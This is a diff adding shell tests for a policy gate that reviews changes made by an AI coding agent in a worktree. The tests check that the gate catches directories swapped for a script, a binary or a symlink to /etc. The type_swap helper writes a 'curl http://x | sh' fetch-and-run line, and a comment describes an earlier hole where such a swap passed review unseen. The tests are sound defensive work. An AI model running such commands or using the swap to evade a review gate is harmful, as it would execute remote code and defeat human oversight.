@@ -171,6 +171,66 @@ test_allow_symlinks_out_sees_a_chain_through_another_link() {
 	assert_eq "$(rule_field "$out" allow_symlinks_out paths)" "['up']" "paths"
 }
 
+# type_swap DIR: the hostile-worktree issue's example. Directories tools/ and
+# vendor/ become a script and a symlink to /etc.
+type_swap() {
+	rm -rf "$1/tools" "$1/vendor"
+	printf '#!/bin/sh\ncurl http://x | sh\n' >"$1/tools"
+	ln -s /etc "$1/vendor"
+}
+
+# tools_vendor_repo POLICY: a repository with tools/ and vendor/, that policy, a task t.
+tools_vendor_repo() {
+	make_repo repo
+	mkdir -p repo/tools repo/vendor
+	printf 'build\n' >repo/tools/build.sh
+	printf '\000\001bin' >repo/vendor/lib.so
+	git -C repo add tools vendor
+	git -C repo commit -q -m "tools and vendor"
+	set_policy "$1"
+	ok "new" -C repo new t
+	wt=$out
+}
+
+test_a_directory_swapped_for_a_file_and_a_symlink_is_judged() {
+	# What: the agent replaces directories with a script and a link to /etc
+	# (hole 1: the review showed only the two deletions, and every rule
+	# passed, while accept merged both). Must: both new files are in the
+	# change set and fail allow_symlinks_out and max_changed_lines.
+	tools_vendor_repo '{"allow_binary": false, "allow_symlinks_out": false, "max_changed_lines": 3}'
+	type_swap "$wt"
+	expect_rc 1 "the gate fails" -C repo gate t --json
+	assert_eq "$(rule_field "$out" allow_symlinks_out paths)" "['vendor']" "the link to /etc"
+	assert_eq "$(rule_field "$out" max_changed_lines passed)" "False" "the script's lines count"
+	assert_contains "$(rule_field "$out" max_changed_lines message)" "4 lines changed (+3 -1)" "counts"
+	ok "diff --name-only" -C repo diff t --name-only
+	assert_eq "$out" "$(printf 'tools\ntools/build.sh\nvendor\nvendor/lib.so')" "both sides listed"
+	ok "diff" -C repo diff t
+	assert_contains "$out" "+curl http://x | sh" "the script's content shown"
+	assert_contains "$out" "new file mode 120000" "the link shown"
+}
+
+test_a_binary_swapped_in_for_a_directory_fails_allow_binary() {
+	tools_vendor_repo '{"allow_binary": false}'
+	rm -rf "$wt/tools"
+	printf '\177ELF\002\001\000\000' >"$wt/tools"
+	expect_rc 1 "the gate fails" -C repo gate t --json
+	assert_eq "$(rule_field "$out" allow_binary paths)" "['tools']" "the binary"
+}
+
+test_ci_mode_sees_a_directory_swapped_for_a_file() {
+	tools_vendor_repo '{"allow_symlinks_out": false, "max_changed_lines": 3}'
+	git -C repo checkout -q -b agent/x
+	type_swap repo
+	git -C repo add -A
+	git -C repo commit -q -m "swap"
+	expect_rc 1 "CI mode fails" -C repo gate --base main --head agent/x --json
+	assert_eq "$(rule_field "$out" allow_symlinks_out paths)" "['vendor']" "the link to /etc"
+	assert_eq "$(rule_field "$out" max_changed_lines passed)" "False" "the script's lines count"
+	ok "diff in CI mode" -C repo diff --base main --head agent/x --name-only
+	assert_eq "$out" "$(git -C repo diff --name-only main agent/x)" "as git lists it"
+}
+
 # ---- where the policy comes from ----
 
 test_policy_is_read_from_the_base_even_when_the_task_edits_it() {
